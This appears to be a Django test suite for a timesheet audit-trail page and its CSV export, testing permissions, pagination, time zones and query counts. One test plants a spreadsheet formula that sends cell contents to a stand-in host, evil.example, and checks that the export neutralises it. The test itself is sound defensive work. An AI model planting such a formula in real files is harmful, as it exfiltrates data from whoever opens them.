"""Directors, finance and administrators read an expert's audit trail: who changed what, when."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone, translation

from consortium.core.triggers import maintenance
from consortium.testing.factories import ExpertFactory, MandateFactory, TimeEntryImportFactory
from consortium.timesheets.models import TimeEntryChange
from consortium.timesheets.services.entries import (
    time_entry_delete,
    time_entry_record,
    time_entry_update,
)

pytestmark = pytest.mark.django_db
DAY = dt.date(2021, 3, 9)
MARCH = {"du": "2021-03-01", "au": "2021-03-31"}


def url(name: str, *args, language: str = "fr") -> str:
    with translation.override(language):
        return reverse(f"timesheets:{name}", args=args)


@pytest.fixture
def people(people):
    people.owner.first_name, people.owner.last_name = "Marie", "Tremblay"
    people.owner.save()
    return people


def signed_in(client, user):
    client.force_login(user)
    return client


def history_of(people, *, at: dt.datetime = dt.datetime(2021, 3, 15, 14, 30, tzinfo=dt.UTC)):
    """An entry added, changed and deleted by its expert, each change dated `at`."""
    mandate = MandateFactory(code="MAN-AUD")
    entry = time_entry_record(
        expert=people.expert,
        mandate=mandate,
        date=DAY,
        hours=Decimal("7"),
        description="Paie",
        by=people.owner,
    )
    time_entry_update(entry=entry, hours=Decimal("6.5"), description="Paie et DAS", by=people.owner)
    time_entry_delete(entry=entry, by=None)
    with maintenance():  # the audit trail is kept: only maintenance backdates it
        TimeEntryChange.objects.update(changed_at=at)


def query(people, **more) -> dict:
    return {"expert": people.expert.pk, **MARCH, **more}


def test_the_director_reads_who_changed_what_and_when(client, people):
    history_of(people)
    response = signed_in(client, people.director).get(url("audit_trail"), query(people))
    assert response.status_code == 200
    page = response.content.decode()
    assert [row.change.get_action_display() for row in response.context["rows"]] == [
        "suppression",
        "modification",
        "ajout",
    ]
    assert "Marie Tremblay" in page
    assert "Système" in page
    assert "MAN-AUD" in page
    # 14 h 30 UTC is 10 h 30 in Montréal (daylight time since 14 March 2021).
    assert "2021-03-15 10:30" in page
    assert "7,00 → 6,50" in page
    assert "Paie → Paie et DAS" in page
    assert "Télécharger en CSV" in page


def test_changes_made_outside_the_period_are_left_out(client, people):
    history_of(people, at=dt.datetime(2021, 2, 27, 12, tzinfo=dt.UTC))
    response = signed_in(client, people.director).get(url("audit_trail"), query(people))
    assert response.context["rows"] == []
    assert "Aucune modification de ses heures pendant cette période." in response.content.decode()


def test_the_period_defaults_to_this_month(client, people):
    history_of(people, at=timezone.now())
    response = signed_in(client, people.finance).get(
        url("audit_trail"), {"expert": people.expert.pk}
    )
    assert len(response.context["rows"]) == 3
    assert response.context["period"].start == timezone.localdate().replace(day=1)


def test_the_import_batches_of_the_period_are_listed(client, people):
    TimeEntryImportFactory(file_name="heures-mars.csv", imported_by=people.finance)
    TimeEntryImportFactory(
        file_name="heures-fevrier.csv", imported_at=timezone.now() - dt.timedelta(days=62)
    )
    response = signed_in(client, people.administrator).get(
        url("audit_trail"), {"expert": people.expert.pk}
    )
    page = response.content.decode()
    assert "heures-mars.csv" in page
    assert "heures-fevrier.csv" not in page


def test_the_changes_are_paginated_fifty_a_page(client, people):
    mandates = MandateFactory.create_batch(3)
    for day in range(19):
        for mandate in mandates:
            time_entry_record(
                expert=people.expert,
                mandate=mandate,
                date=DAY + dt.timedelta(days=day),
                hours=Decimal("1"),
                by=people.owner,
            )
    with maintenance():
        TimeEntryChange.objects.update(changed_at=dt.datetime(2021, 3, 15, 14, tzinfo=dt.UTC))
    director = signed_in(client, people.director)
    first = director.get(url("audit_trail"), query(people))
    assert len(first.context["rows"]) == 50
    assert "Page 1 sur 2" in first.content.decode()
    second = director.get(url("audit_trail"), query(people, page=2))
    assert len(second.context["rows"]) == 7


def test_the_csv_holds_the_same_changes(client, people):
    history_of(people)
    response = signed_in(client, people.director).get(url("audit_trail_csv"), query(people))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    lines = response.content.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("Quand,Qui,Action,Mandat,Jour")
    assert lines[1:] == [
        "2021-03-15 10:30,Système,suppression,MAN-AUD,2021-03-09,6.50,,Paie et DAS,,,",
        "2021-03-15 10:30,Marie Tremblay,modification,MAN-AUD,2021-03-09,7.00,6.50,"
        "Paie,Paie et DAS,,",
        "2021-03-15 10:30,Marie Tremblay,ajout,MAN-AUD,2021-03-09,,7.00,,Paie,,",
    ]


def test_the_trail_shows_an_entrys_start_and_end_when_it_has_them(client, people):
    entry = time_entry_record(
        expert=people.expert,
        mandate=MandateFactory(code="MAN-PLG"),
        date=DAY,
        start_time=dt.time(8, 30),
        end_time=dt.time(12),
        by=people.owner,
    )
    time_entry_update(entry=entry, start_time=dt.time(13), end_time=dt.time(17), by=people.owner)
    with maintenance():
        TimeEntryChange.objects.update(changed_at=dt.datetime(2021, 3, 15, 14, tzinfo=dt.UTC))
    director = signed_in(client, people.director)
    page = director.get(url("audit_trail"), query(people)).content.decode()
    assert "(08:30–12:00)" in page and "(13:00–17:00)" in page
    lines = director.get(url("audit_trail_csv"), query(people)).content.decode("utf-8-sig")
    assert lines.splitlines()[1].endswith(",08:30–12:00,13:00–17:00")


def test_a_comment_planted_as_a_formula_is_written_as_text_in_the_csv(client, people):
    """OWASP's CSV injection: an expert's comment starting with = would run in the spreadsheet
    of whoever opens the audit trail."""
    planted = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
    time_entry_record(
        expert=people.expert,
        mandate=MandateFactory(code="MAN-AUD"),
        date=DAY,
        hours=Decimal("7"),
        description=planted,
        by=people.owner,
    )
    with maintenance():
        TimeEntryChange.objects.update(changed_at=dt.datetime(2021, 3, 15, 14, tzinfo=dt.UTC))
    response = signed_in(client, people.director).get(url("audit_trail_csv"), query(people))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][2:9] == ["ajout", "MAN-AUD", "2021-03-09", "", "7.00", "", "'" + planted]


def test_the_expert_chooser_offers_only_the_experts_one_may_read(client, people):
    elsewhere = ExpertFactory()
    response = signed_in(client, people.director).get(url("audit_trail"))
    offered = {value for value, _label in response.context["form"].fields["expert"].choices}
    assert people.expert.pk in offered
    assert elsewhere.pk not in offered
    assert "Choisissez un expert" in response.content.decode()


@pytest.mark.parametrize("who", ["director_elsewhere"])
def test_an_expert_outside_ones_reach_is_not_found(client, people, who):
    history_of(people)
    visitor = signed_in(client, getattr(people, who))
    assert visitor.get(url("audit_trail"), query(people)).status_code == 404
    assert visitor.get(url("audit_trail_csv"), query(people)).status_code == 404
    assert visitor.get(url("audit_trail"), {"expert": "n-importe"}).status_code == 404


@pytest.mark.parametrize("who", ["owner", "colleague", "communications"])
def test_the_audit_trail_is_not_for_other_roles(client, people, who):
    visitor = signed_in(client, getattr(people, who))
    assert visitor.get(url("audit_trail"), query(people)).status_code == 403
    assert visitor.get(url("audit_trail_csv"), query(people)).status_code == 403


def test_an_anonymous_visitor_is_sent_to_sign_in(client, people):
    response = client.get(url("audit_trail"), query(people))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:login"))


def test_a_period_that_ends_before_it_starts_is_refused_in_the_form(client, people):
    response = signed_in(client, people.finance).get(
        url("audit_trail"), query(people, du="2021-03-31", au="2021-03-01")
    )
    assert response.status_code == 200
    assert "La période se termine avant de commencer." in response.content.decode()
    assert "rows" not in response.context


def test_the_page_speaks_english_under_en(client, people):
    history_of(people)
    response = signed_in(client, people.director).get(
        url("audit_trail", language="en"), query(people)
    )
    page = response.content.decode()
    assert response.status_code == 200
    assert "7.00 → 6.50" in page


PAGE_QUERIES = 8


def test_the_page_costs_a_fixed_number_of_queries(client, people, django_assert_num_queries):
    history_of(people)
    TimeEntryImportFactory()
    director = signed_in(client, people.director)
    address = url("audit_trail") + "?" + "&".join(f"{k}={v}" for k, v in query(people).items())
    with django_assert_num_queries(PAGE_QUERIES):
        assert director.get(address).status_code == 200
    for mandate in MandateFactory.create_batch(10):
        entry = time_entry_record(
            expert=people.expert, mandate=mandate, date=DAY, hours=Decimal("1"), by=people.owner
        )
        time_entry_update(entry=entry, hours=Decimal("2"), by=people.director)
    with maintenance():
        TimeEntryChange.objects.update(changed_at=dt.datetime(2021, 3, 15, 14, tzinfo=dt.UTC))
    ExpertFactory.create_batch(5, department=people.expert.department)
    TimeEntryImportFactory.create_batch(5)
    with django_assert_num_queries(PAGE_QUERIES):
        response = director.get(address)
    assert len(response.context["rows"]) == 23


def test_a_comment_only_change_is_called_commentaire_modifie(client, people):
    entry = time_entry_record(
        expert=people.expert,
        mandate=MandateFactory(code="MAN-COM"),
        date=DAY,
        hours=Decimal("7"),
        description="Paie",
        by=people.owner,
    )
    time_entry_update(entry=entry, description="Paie de mars", by=people.owner)
    time_entry_update(entry=entry, hours=Decimal("6"), by=people.owner)
    with maintenance():
        TimeEntryChange.objects.update(changed_at=dt.datetime(2021, 3, 15, 14, 30, tzinfo=dt.UTC))
    response = signed_in(client, people.director).get(url("audit_trail"), query(people))
    labels = sorted(row.change.action_label for row in response.context["rows"])
    assert labels == ["ajout", "commentaire modifié", "modification"]
    assert ">commentaire modifié</span>" in response.content.decode()
